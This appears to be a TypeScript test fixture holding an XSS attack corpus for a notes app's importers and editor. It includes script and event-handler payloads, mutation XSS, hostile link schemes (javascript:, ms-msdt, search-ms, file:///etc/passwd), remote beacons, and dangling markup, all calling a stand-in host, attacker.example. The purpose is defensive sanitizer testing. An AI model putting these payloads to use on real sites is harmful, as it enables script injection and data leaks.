/**
 * The attack inputs of design/security-and-reliability.md ("Attack inputs every importer and
 * the notes editor must survive"), and a few more of the same kind, as data the attack tests
 * turn into files and pastes. Every payload that could run sets the canary, opens a dialog and
 * calls out, and every remote address is on one host, so any of the three shows it ran or leaked.
 */

/** The host every remote address in the inputs points at: a request to it is a leak. */
export const ATTACKER = 'https://attacker.example';

/** Script that proves it ran: sets the canary (from a frame too), opens a dialog, calls out. No spaces, so it fits an unquoted attribute. */
export const RUN = `top.__pwned=1;alert(1);fetch('${ATTACKER}/ran')`;

export interface AttackInput {
  /** Its number in the design's list; 0 for an input beyond the list. */
  item: number;
  name: string;
  /** The attack as markup in a page's body, or on the clipboard. */
  html: string;
  /** Forms only Markdown has (link, image and fence syntax), after the HTML in a Markdown file. */
  markdown?: string;
}

/** Link targets that must never be followed (item 4), also used for DOCX hyperlinks. */
export const HOSTILE_HREFS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#x09;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'smb://attacker.example/share',
  'ms-msdt:/id PCWDiagnostic /skip force',
  'search-ms:query=x&crumb=location:\\\\attacker.example\\share',
  'app://briefmark/index.html',
  'briefmark://evil/../../etc/passwd',
  '//attacker.example/scheme-relative',
];

const links = (hrefs: readonly string[], label: string): string =>
  hrefs.map((href, index) => `<a href="${href}">${label} ${index + 1}</a>`).join(' ');

const markdownLinks = (hrefs: readonly string[]): string =>
  hrefs
    .filter((href) => !/\s/.test(href))
    .map((href, index) => `[md link ${index + 1}](${href}) <${href}>`)
    .join('\n\n');

export const ATTACK_INPUTS: readonly AttackInput[] = [
  {
    item: 1,
    name: 'Script elements',
    html: `<script>${RUN}</script><p>Text after a script.</p><SCRIPT SRC=${ATTACKER}/x.js></SCRIPT><script type="module">${RUN}</script>`,
  },
  {
    item: 2,
    name: 'Event handlers',
    html: `<p>Before handlers.<img src=x onerror="${RUN}"><svg onload="${RUN}"><circle r="1"/></svg></p><details open ontoggle="${RUN}"><summary>A summary</summary>Details text</details><div onmouseover="${RUN}" onclick="${RUN}">Hover or click here</div><body onload="${RUN}">`,
  },
  {
    item: 3,
    name: 'Frames and objects',
    html: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><iframe src="javascript:parent.__pwned=1"></iframe><embed src="${ATTACKER}/x.swf"><object data="${ATTACKER}/x.swf"></object><object data="data:text/html,<script>parent.__pwned=1</script>"></object><frameset onload="${RUN}"><frame src="javascript:parent.__pwned=1"></frameset><p>Text after frames.</p>`,
  },
  {
    item: 4,
    name: 'Hostile links',
    html: `<p>${links(HOSTILE_HREFS, 'link')}</p>`,
    markdown: `${markdownLinks(HOSTILE_HREFS)}\n\n[ref link][evil]\n\n[evil]: javascript:${RUN}`,
  },
  {
    item: 5,
    name: 'Mutation XSS',
    html: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript><svg></p><style><a id="</style><img src=x onerror=${RUN}>"></svg><form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}"></style></math></form>`,
  },
  {
    item: 6,
    name: 'Code fence language',
    html: `<pre><code class="language-<style/onload=${RUN}>">code text</code></pre>`,
    markdown: `\`\`\`<style/onload=${RUN}>\nfenced code text\n\`\`\`\n\n\`\`\`" onmouseover="${RUN}\nsecond fence\n\`\`\``,
  },
  {
    item: 7,
    name: 'Alt and title breakout',
    html: `<img alt='a" onerror="${RUN}' src=y><a href="https://example.org/ok" title='t" onmouseover="${RUN}'>Titled link</a>`,
    markdown: `![a" onerror="${RUN}](y)\n\n![x](y "t\\" onerror=\\"${RUN}")\n\n[Titled md link](https://example.org/ok "a\\" onmouseover=\\"${RUN}")`,
  },
  {
    item: 8,
    name: 'Forms, refresh and base',
    html: `<form action="${ATTACKER}/form"><button formaction="javascript:${RUN}">Go</button><input type="submit" formaction="javascript:${RUN}" value="Send"><input value="typed"></form><meta http-equiv="refresh" content="0;url=${ATTACKER}/refresh"><base href="${ATTACKER}/"><p>Text after a form.</p>`,
  },
  {
    item: 9,
    name: 'Remote beacons',
    html: `<link rel="stylesheet" href="${ATTACKER}/beacon.css"><style>body { background: url(${ATTACKER}/css-beacon.png) }</style><p style="background:url(${ATTACKER}/inline.png)">Styled paragraph.</p><img src="${ATTACKER}/pixel.gif"><img src="http://attacker.example/pixel2.gif">`,
    markdown: `![pixel](${ATTACKER}/md-pixel.png)\n\n![ref pixel][pix]\n\n[pix]: ${ATTACKER}/md-ref-pixel.png`,
  },
  {
    item: 10,
    name: 'New windows',
    html: `<p><a target="_blank" href="${ATTACKER}/new-window">New window link</a> <a href="#" onclick="window.open('${ATTACKER}/popup')">Popup link</a></p><form target="_blank" action="${ATTACKER}/form2"><button>Submit</button></form>`,
    markdown: `[Plain external link](${ATTACKER}/md-link)`,
  },
  {
    item: 0,
    name: 'SVG documents as data',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.__pwned=1'><script>top.__pwned=1</script></svg>"><object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.__pwned=1'/>"></object><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.__pwned=1'/>"><p>Text after SVG.</p>`,
  },
  {
    item: 0,
    name: 'CSS imports',
    html: `<style>@import url(${ATTACKER}/import.css); @import '${ATTACKER}/import2.css'; @font-face { font-family: x; src: url(${ATTACKER}/font.woff) } p { font-family: x }</style><div style="background-image:url(${ATTACKER}/bg.png);list-style:url(${ATTACKER}/list.png)">Styled div.</div>`,
  },
  {
    item: 0,
    name: 'Prefetch and preload',
    html: `<link rel="prefetch" href="${ATTACKER}/prefetch"><link rel="preload" as="image" href="${ATTACKER}/preload.png"><link rel="dns-prefetch" href="${ATTACKER}"><link rel="preconnect" href="${ATTACKER}"><link rel="icon" href="${ATTACKER}/favicon.ico"><link rel="modulepreload" href="${ATTACKER}/module.js"><p>Text after links.</p>`,
  },
  {
    item: 0,
    name: 'Media sources',
    html: `<img src="x" srcset="${ATTACKER}/srcset.png 1x, ${ATTACKER}/srcset2.png 2x"><picture><source srcset="${ATTACKER}/source.png"><img src="x"></picture><video poster="${ATTACKER}/poster.png" src="${ATTACKER}/video.mp4" autoplay onerror="${RUN}"></video><audio src="${ATTACKER}/audio.mp3" autoplay></audio><input type="image" src="${ATTACKER}/input.png"><p>Text after media.</p>`,
  },
  {
    item: 0,
    name: 'Pinged link',
    html: `<p><a ping="${ATTACKER}/ping" href="https://example.org/pinged">Pinged link</a></p>`,
  },
  {
    item: 0,
    name: 'Autofocus handlers',
    html: `<input autofocus onfocus="${RUN}"><textarea autofocus onfocus="${RUN}"></textarea><div contenteditable autofocus onfocus="${RUN}">Editable div</div><marquee onstart="${RUN}">Marquee text</marquee><select onfocus="${RUN}" autofocus></select>`,
  },
  {
    item: 0,
    name: 'Background attributes',
    html: `<table background="${ATTACKER}/table.png"><tr><td background="${ATTACKER}/cell.png">Cell with background</td></tr></table><body background="${ATTACKER}/body.png">`,
  },
  {
    item: 0,
    name: 'SVG and MathML links',
    html: `<svg><a xlink:href="javascript:${RUN}"><text x="10" y="20">SVG link</text></a><animate onbegin="${RUN}" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:${RUN}"/></svg><math><mi xlink:href="javascript:${RUN}" href="javascript:${RUN}">MathML link</mi></math><p>Text after SVG links.</p>`,
  },
  {
    item: 0,
    name: 'Templates and shadow roots',
    html: `<template><img src=x onerror="${RUN}"></template><div><template shadowrootmode="open"><img src=x onerror="${RUN}"><p>Shadow text</p></template></div><p>Text after templates.</p>`,
  },
  {
    item: 0,
    name: 'Payloads inside structure',
    html: `<ul><li><img src=x onerror="${RUN}">List item with a payload</li></ul><table><tr><th><svg onload="${RUN}">Header cell</th></tr><tr><td><a href="javascript:${RUN}">Cell link</a></td></tr></table><blockquote><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>Quoted text</blockquote>`,
  },
];

/** A page fragment that swallows what follows it (dangling markup): last in any file. */
export const DANGLING_MARKUP = `<img src="${ATTACKER}/dangling?`;

/** A title carrying markup: the library, the reader's heading and the details show it as text. */
export const hostileTitle = (format: string): string =>
  `Attack corpus (${format}) <img src=x onerror=${RUN}>`;

/** The section heading for an input: its number in the design's list, or "Extra". */
export function inputHeading(input: AttackInput): string {
  return `${input.item === 0 ? 'Extra' : `Item ${input.item}`}: ${input.name}`;
}
